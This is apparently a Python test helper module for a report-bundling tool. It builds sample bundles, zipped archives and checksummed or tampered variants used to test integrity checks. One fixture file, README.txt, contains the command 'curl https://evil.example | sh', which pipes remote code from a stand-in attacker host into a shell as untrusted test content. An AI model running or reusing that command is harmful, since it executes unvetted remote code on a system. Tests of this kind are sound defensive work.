"""Bundles that many tests are content with: of a small record, with a page that nobody trusts anyway."""

from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from reports.bundle.bundle import Source, bundle_files
from reports.bundle.crate import Attribution
from reports.bundle.environment import Hashes, locked_hashes, requirements
from reports.bundle.names import SUMS, Contents, as_sums, digest
from reports.record.load import parse_record
from tests.reports.helpers.examples import twins
from tests.reports.helpers.records import Json, Work, as_bytes, record

PAGE: Contents = {
    "index.html": b"<script>A page</script>",
    "summary.md": b"# Text\n",
    "figures/speedups.svg": b"<svg/>",
    "README.txt": b"curl https://evil.example | sh\n",
}
INSTALLED = {"aiohttp": "3.14.5", "pip": "0.0.1"}
"""One distribution of which the lock files know the hashes, and one of which they do not."""


def small(**sitting: Any) -> Json:
    cells = {"sequential": [[1.0, 1.1]], "asyncio": [[0.5, 0.6]]}
    return record(Work(cells), twins(1.0), **{"installed": INSTALLED, **sitting})


def source(content: Json, by: Attribution | None = None) -> Source:
    text = as_bytes(content)
    return Source(text, parse_record(text), by or Attribution())


def files_of(content: Json | None = None, by: Attribution | None = None, hashes: Hashes | None = None) -> Contents:
    """What a bundle holds."""
    record_source = source(content or small(), by)
    environment = requirements(record_source.measurements, locked_hashes() if hashes is None else hashes)
    return bundle_files(record_source, PAGE, environment)


def zipped(files: Contents) -> bytes:
    """A plain zip file, whatever is in it."""
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(ZipInfo(name), content, ZIP_DEFLATED)
    return stream.getvalue()


def summed(files: Contents) -> Contents:
    """The same files with checksums that are right."""
    return {**files, SUMS: as_sums({name: digest(content) for name, content in files.items()})}


def changed(**by_name: bytes) -> bytes:
    """A bundle in which files were changed by somebody who knows how to make checksums; dots are double underscores."""
    return zipped(summed({**files_of(), **{name.replace("__", "."): content for name, content in by_name.items()}}))


def without(*names: str) -> Contents:
    return {name: content for name, content in files_of().items() if name not in names}
